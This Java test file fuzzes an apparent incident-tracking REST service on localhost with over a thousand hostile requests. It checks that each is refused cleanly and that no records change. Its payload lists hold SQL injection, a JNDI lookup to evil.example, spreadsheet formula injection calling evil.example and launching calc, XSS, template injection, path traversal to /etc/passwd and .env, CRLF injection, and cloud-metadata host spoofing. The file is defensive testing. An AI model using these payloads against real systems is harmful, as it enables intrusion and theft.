package org.tally.http;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.core.JsonProcessingException;
import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import io.quarkus.test.junit.QuarkusTest;
import io.restassured.RestAssured;
import jakarta.inject.Inject;
import java.io.IOException;
import java.net.Socket;
import java.net.SocketException;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.sql.Connection;
import java.sql.ResultSet;
import java.sql.SQLException;
import java.sql.Statement;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.HexFormat;
import java.util.List;
import java.util.Locale;
import java.util.Optional;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import javax.sql.DataSource;
import org.junit.jupiter.api.Test;

/**
 * A corpus of hostile requests. Each gets a problem or, if it only reads, an answer; none shows code, fails the service or changes a
 * record. Malformed HTTP is sent to the packaged service (HostileClientsIT), since only that guards connections.
 */
@QuarkusTest
class HostileInputTest extends HttpTest {

    private static final int LEAST = 1_000;
    private static final int TIMEOUT_MILLIS = 60_000;
    private static final String FOREIGN = "evil.example";
    private static final Pattern CODE =
            Pattern.compile("\\bat [\\w.$]+\\(|\\b(?:java|jakarta|org|io|com)\\.[a-z]+\\.\\S*[A-Z]");
    private static final Pattern ANSWER =
            Pattern.compile("^HTTP/1\\.1 (\\d{3}) .*?\r\n(.*?)\r\n\r\n(.*)$", Pattern.DOTALL);

    private static final List<String> TEXTS = List.of(
            "' or 1=1 --",
            "'; drop table source; --",
            "\" or \"\"=\"",
            "1) union select null, null from change --",
            "$$; select pg_sleep(60); $$",
            "%",
            "_",
            "%_%_%_%",
            "\\",
            "\\%",
            "\\\\",
            "' || chr(37) || '",
            "*:*",
            "& | ! ( ) <->",
            "=1+1",
            "+1+1",
            "-1+1",
            "@SUM(1)",
            "\t=1+1",
            "=HYPERLINK(\"http://evil.example\")",
            "=cmd|'/c calc'!A1",
            "<script>alert(1)</script>",
            "${jndi:ldap://evil.example/a}",
            "{{7*7}}",
            "../../etc/passwd",
            "a\0b",
            "\u202e\u2066",
            "\ufffe\uffff",
            "a".repeat(5_000),
            "a ".repeat(2_000),
            "NaN",
            "1e400",
            "-99999999999999999999",
            "null",
            "[]",
            ",,,,");

    private static final List<String> NUMBERS = List.of(
            "1e400",
            "-1e400",
            "1e-400",
            "1e1000000000",
            "99999999999999999999",
            "-1",
            "9223372036854775808",
            "0.5",
            "NaN",
            "Infinity",
            "-",
            "+1",
            "01",
            "1.",
            ".5",
            "0x10",
            "1_000",
            "\"3\"",
            "true",
            "[3]",
            "{}",
            "9".repeat(10_000),
            "0." + "3".repeat(10_000));

    /** Sequences of bytes that are not UTF-8: overlong forms, halves of pairs, too large, cut off. */
    private static final List<String> BYTES = List.of(
            "c0af",
            "e080af",
            "f08080af",
            "c080",
            "c1bf",
            "eda080",
            "edb080",
            "eda080edb080",
            "f4908080",
            "f8888080af",
            "fe",
            "ff",
            "80",
            "c3",
            "e282",
            "f09f98");

    @Inject
    DataSource database;

    private final List<Request> corpus = new ArrayList<>();

    /** A request; {@code mayPass} if it only reads, so that an answer is no fault. */
    private record Request(String name, byte[] bytes, boolean mayPass) {}

    @Test
    void hostileInputIsRefusedAndChangesNothing() throws Exception {
        brokenJson();
        strangeValues();
        parameters();
        paths();
        methods();
        headers();
        assertThat(corpus).hasSizeGreaterThan(LEAST);
        List<String> before = contents();

        List<String> faults = new ArrayList<>();
        for (Request request : corpus) {
            fault(request).ifPresent(fault -> faults.add(request.name + ": " + fault));
        }

        assertThat(faults).isEmpty();
        assertThat(contents()).isEqualTo(before);
    }

    /** Bodies that are cut at each byte, or whose byte is replaced by one that is not UTF-8, or by NUL. */
    private void brokenJson() {
        for (Records records : Records.values()) {
            byte[] body = records.body().getBytes(StandardCharsets.UTF_8);
            for (int at = 0; at < body.length; at++) {
                creating(records.path() + " cut at " + at, records.path(), Arrays.copyOf(body, at));
                for (int code : new int[] {0xff, 0}) {
                    byte[] changed = body.clone();
                    changed[at] = (byte) code;
                    creating("%s with %02x at %d".formatted(records.path(), code, at), records.path(), changed);
                }
            }
            for (int depth : new int[] {100, 10_000, 100_000}) {
                creating(records.path() + " in arrays", records.path(), "[".repeat(depth) + "]".repeat(depth));
                creating(records.path() + " in open arrays", records.path(), "[".repeat(depth));
                creating(
                        records.path() + " in objects",
                        records.path(),
                        records.with("\"x\": " + "{\"x\":".repeat(depth) + "1" + "}".repeat(depth)));
                creating(
                        records.path() + " in a list",
                        records.path(),
                        records.with("\"externalIds\": " + "[".repeat(depth) + "]".repeat(depth)));
            }
            creating(records.path() + " twice", records.path(), records.body() + records.body());
            creating(records.path() + " with a name twice", records.path(), records.with("\"id\": 1, \"id\": 2"));
            creating(records.path() + " with many fields", records.path(), records.with(many("\"x%d\": 1", 20_000)));
        }
    }

    private static String many(String field, int times) {
        StringBuilder fields = new StringBuilder();
        for (int i = 0; i < times; i++) {
            fields.append(i == 0 ? "" : ", ").append(field.formatted(i));
        }
        return fields.toString();
    }

    private void strangeValues() {
        for (String number : NUMBERS) {
            creating("a value of " + shortened(number), "/figures", """
                {"incidentId": "%s", "sourceId": "%s", "metric": "KILLED", "qualifier": "AT_LEAST", "value": %s}\
                """.formatted(
                            SAMPLE_INCIDENT, SAMPLE_SOURCE, number));
            creating("a precision of " + shortened(number), "/incidents", """
                {"title": "A clash", "eventType": "BATTLES", "dateStart": "2019-06-06", "dateEnd": "2019-06-07",
                 "datePrecision": %s}\
                """.formatted(number));
            creating("a latitude of " + shortened(number), "/incidents", """
                {"title": "A clash", "eventType": "BATTLES", "dateStart": "2019-06-06", "dateEnd": "2019-06-07",
                 "location": {"latitude": %s}}\
                """.formatted(number));
        }
        for (String hex : BYTES) {
            String text = new String(HexFormat.of().parseHex(hex), StandardCharsets.ISO_8859_1);
            add(
                    hex + " in a title",
                    raw(
                            "POST /sources HTTP/1.1",
                            "{\"kind\": \"NGO_REPORT\", \"title\": \"a" + text + "b\"}",
                            "Content-Type: application/json"),
                    false);
            String escaped = hex.replaceAll("(..)", "%$1");
            reading(hex + " in a query", "/sources?q=" + escaped);
            reading(hex + " in a path", "/sources/" + escaped);
            reading(hex + " in a name", "/sources?" + escaped + "=1");
        }
        for (String text : TEXTS) {
            String json = new ObjectMapper().valueToTree(text).toString();
            creating("a kind " + shortened(text), "/sources", "{\"title\": \"A report\", \"kind\": " + json + "}");
            creating("a reference " + shortened(text), "/incidents", """
                {"title": "A clash", "eventType": "BATTLES", "dateStart": "2019-06-06", "dateEnd": "2019-06-07",
                 "parentId": %s}\
                """.formatted(json));
            creating("a date " + shortened(text), "/incidents", """
                {"title": "A clash", "eventType": "BATTLES", "dateStart": %s, "dateEnd": "2019-06-07"}\
                """.formatted(json));
            creating("a field " + shortened(text), "/sources", "{" + json + ": 1}");
        }
    }

    private void parameters() {
        String[] lists = {
            "/sources q publisher kind language publishedFrom incidentId contentHash externalId sort fields limit"
                    + " cursor",
            "/incidents q dateFrom country admin1 place bbox near withinKm actor tag killedMin externalId sort fields"
                    + " format cursor",
            "/incidents/aggregates groupBy q country killedMax",
            "/figures group originator qualifier windowFrom cumulative externalId sort cursor",
            "/organizations q name partOf reliability sort cursor",
            "/incidents/" + SAMPLE_INCIDENT + "/toll metric asOf method breakdown"
        };
        for (String list : lists) {
            String[] names = list.split(" ");
            for (int i = 1; i < names.length; i++) {
                for (String text : TEXTS) {
                    reading(
                            names[0] + " by " + names[i] + " " + shortened(text),
                            names[0] + "?" + names[i] + "=" + URLEncoder.encode(text, StandardCharsets.UTF_8));
                }
            }
        }
    }

    private void paths() {
        for (String path : List.of(
                "/../etc/passwd",
                "/sources/../../etc/passwd",
                "/%2e%2e/%2e%2e/etc/passwd",
                "/..%2f..%2fetc%2fpasswd",
                "/..%5c..%5cetc",
                "/sources/%2e%2e/imports",
                "/swagger-ui/..%2f..%2fapplication.properties",
                "/application.properties",
                "/META-INF/MANIFEST.MF",
                "/WEB-INF/web.xml",
                "/.env",
                "/.git/config",
                "/q/dev-ui",
                "/q/arc",
                "/h2-console",
                "/actuator/env",
                "//evil.example/sources",
                "/sources;jsessionid=1",
                "/sources/;/history",
                "/sources/%00",
                "/sources/%0d%0aSet-Cookie:a=b",
                "/sources/-1",
                "/sources/1%20or%201=1",
                "/sources/" + "a".repeat(30_000),
                "/" + "a/".repeat(10_000),
                "/" + "%61".repeat(10_000),
                "/sources?" + "limit=1&".repeat(5_000),
                "/sources?" + many("%d", 5_000).replace(", ", "&"),
                "/incidents?country=" + "SYR,".repeat(10_000),
                "/incidents?bbox=NaN,NaN,NaN,NaN",
                "/incidents?near=1e400,0&withinKm=1",
                "/figures?fields=" + "id,".repeat(10_000))) {
            reading(shortened(path), path);
        }
    }

    private void methods() {
        for (String method :
                List.of("FOO", "BREW", "PROPFIND", "TRACE", "PURGE", "LINK", "get", "DELETE", "PUT", "PATCH", "POST")) {
            for (String path :
                    List.of("/", "/sources/", "/incidents/aggregates", "/vocabularies", "/nothing", "/figures")) {
                if (!(method.equals("POST") && path.equals("/figures"))) {
                    add(
                            method + " " + path,
                            raw(method + " " + path + " HTTP/1.1", "{}", "Content-Type: application/json"),
                            false);
                }
            }
        }
        for (String match :
                List.of("x", "\"x\"", "*", "W/\"1\"", "\"99999999999999999999\"", "\"-1\"", "\"1\"".repeat(1_000))) {
            for (String method : List.of("PUT", "PATCH", "DELETE")) {
                add(
                        method + " if " + shortened(match),
                        raw(
                                method + " /sources/" + SAMPLE_SOURCE + " HTTP/1.1",
                                method.equals("DELETE") ? "" : "{}",
                                "If-Match: " + match,
                                "Content-Type: "
                                        + (method.equals("PATCH")
                                                ? "application/merge-patch+json"
                                                : "application/json")),
                        false);
            }
        }
    }

    private void headers() {
        for (String header : List.of(
                "X-Forwarded-Host: " + FOREIGN,
                "X-Forwarded-Proto: gopher",
                "X-Forwarded-Port: 99999",
                "X-Forwarded-Prefix: //" + FOREIGN,
                "X-Forwarded-For: ' or 1=1 --",
                "Forwarded: host=" + FOREIGN + ";proto=gopher",
                "X-Original-URL: /api-keys",
                "X-Rewrite-URL: /api-keys",
                "X-HTTP-Method-Override: DELETE",
                "Referer: http://" + FOREIGN,
                "Origin: http://" + FOREIGN,
                "Accept: " + "a/b,".repeat(1_000),
                "Accept: " + "*".repeat(2_000),
                "Accept-Language: " + "x-".repeat(500),
                "If-None-Match: " + "\"1\",".repeat(1_000),
                "Cookie: " + "a=b;".repeat(1_000),
                "Authorization: Basic %%%",
                "Authorization: Bearer " + "a".repeat(5_000),
                "Authorization: Bearer tally_' or 1=1 --",
                "Authorization: Bearer e30.e30.AA",
                "Range: bytes=9-1,-,x",
                "traceparent: 00-zz")) {
            reading(shortened(header), "/sources?limit=1", header);
            add(
                    "POST with " + shortened(header),
                    raw("POST /sources HTTP/1.1", "{}", header, "Content-Type: application/json"),
                    false);
        }
        for (String key : List.of("a b", "a".repeat(256), "\u00e4", "a".repeat(5_000), "\t")) {
            add(
                    "Idempotency-Key " + shortened(key),
                    raw("POST /sources HTTP/1.1", "{}", "Idempotency-Key: " + key, "Content-Type: application/json"),
                    false);
        }
        for (String type : List.of(
                "text/plain", "json", "/", "a/b/c", "*/*", "application/xml", "multipart/form-data; boundary=x")) {
            add(
                    "Content-Type " + type,
                    raw("POST /sources HTTP/1.1", Records.SOURCES.body(), "Content-Type: " + type),
                    false);
        }
        for (String coding : List.of("gzip", "br", "deflate", "x", "gzip, gzip")) {
            add(
                    "Content-Encoding " + coding,
                    raw(
                            "POST /sources HTTP/1.1",
                            Records.SOURCES.body(),
                            "Content-Encoding: " + coding,
                            "Content-Type: application/json"),
                    false);
        }
        for (String host :
                List.of(FOREIGN, "localhost." + FOREIGN, "127.0.0.1@" + FOREIGN, "0.0.0.0", "169.254.169.254")) {
            add("Host " + host, "GET /sources HTTP/1.1\r\nHost: " + host + "\r\nConnection: close\r\n\r\n", false);
        }
    }

    private void creating(String name, String path, String body) {
        creating(name, path, body.getBytes(StandardCharsets.UTF_8));
    }

    private void creating(String name, String path, byte[] body) {
        String text = new String(body, StandardCharsets.ISO_8859_1);
        add("POST " + name, raw("POST " + path + " HTTP/1.1", text, "Content-Type: application/json"), false);
    }

    private void reading(String name, String path, String... headers) {
        add("GET " + name, raw("GET " + path + " HTTP/1.1", "", headers), true);
    }

    private void add(String name, String request, boolean mayPass) {
        corpus.add(new Request(name, request.getBytes(StandardCharsets.ISO_8859_1), mayPass));
    }

    /** A request as text, in which each character is a byte. */
    private static String raw(String line, String body, String... headers) {
        StringBuilder request = new StringBuilder(line + "\r\nHost: localhost\r\nConnection: close\r\n");
        for (String header : headers) {
            request.append(header).append("\r\n");
        }
        if (!body.isEmpty() || line.startsWith("POST")) {
            request.append("Content-Length: ").append(body.length()).append("\r\n");
        }
        return request.append("\r\n").append(body).toString();
    }

    private static String shortened(String text) {
        String visible = text.replaceAll("\\P{Print}", "?");
        return visible.length() > 40 ? visible.substring(0, 40) + "… (" + text.length() + ")" : visible;
    }

    /** What is wrong with the answer to a request. */
    private static Optional<String> fault(Request request) throws IOException {
        String answer = send(request);
        if (answer.isEmpty()) {
            return Optional.of("no answer");
        }
        Matcher parts = ANSWER.matcher(answer);
        if (!parts.matches()) {
            return Optional.of("not an answer: " + shortened(answer));
        }
        int status = Integer.parseInt(parts.group(1));
        if (status >= 500 || status < 400 && !request.mayPass) {
            return Optional.of(status + " " + shortened(parts.group(3)));
        }
        if (answer.substring(0, parts.start(3)).contains(FOREIGN)) {
            return Optional.of("headers with " + FOREIGN);
        }
        return status < 400
                ? Optional.empty()
                : faultOfProblem(status, parts.group(2), body(parts.group(2), parts.group(3)));
    }

    /** The body of an answer, which may come in chunks. */
    private static String body(String headers, String received) {
        return headers.toLowerCase(Locale.ROOT).contains("transfer-encoding: chunked")
                ? received.replaceAll("(?:^|\\r\\n)[0-9a-f]+\\r\\n(?:\\r\\n)?", "")
                : received;
    }

    private static Optional<String> faultOfProblem(int status, String headers, String body) {
        if (!headers.toLowerCase(Locale.ROOT).contains("content-type: application/problem+json")) {
            return Optional.of(status + " without a problem: " + shortened(body));
        }
        try {
            JsonNode problem = new ObjectMapper().readTree(body);
            String detail = problem.path("detail").asText();
            if (detail.isBlank() || problem.path("status").asInt() != status) {
                return Optional.of(status + " with an incomplete problem: " + shortened(body));
            }
            return CODE.matcher(detail).find() ? Optional.of("shows code: " + detail) : Optional.empty();
        } catch (JsonProcessingException e) {
            return Optional.of(status + " with a problem that is not JSON: " + shortened(body));
        }
    }

    private static String send(Request request) throws IOException {
        try (Socket socket = new Socket("127.0.0.1", RestAssured.port)) {
            socket.setSoTimeout(TIMEOUT_MILLIS);
            try {
                socket.getOutputStream().write(request.bytes);
            } catch (IOException e) {
                // The service may close the connection before it has read a request that is too large.
            }
            return new String(socket.getInputStream().readAllBytes(), StandardCharsets.UTF_8);
        } catch (SocketException e) {
            return "";
        }
    }

    /** The numbers of records, and the end of the journal. */
    private List<String> contents() throws SQLException {
        List<String> contents = new ArrayList<>();
        try (Connection connection = database.getConnection();
                Statement statement = connection.createStatement()) {
            for (String query : List.of(
                    "select count(*) from source",
                    "select count(*) from incident",
                    "select count(*) from figure",
                    "select count(*) from organization",
                    "select count(*) from api_key where revoked_at is null",
                    "select count(*) from import_job",
                    "select count(*) from idempotent_answer",
                    "select max(sequence) from change")) {
                try (ResultSet row = statement.executeQuery(query)) {
                    row.next();
                    contents.add(query + ": " + row.getLong(1));
                }
            }
        }
        return contents;
    }
}
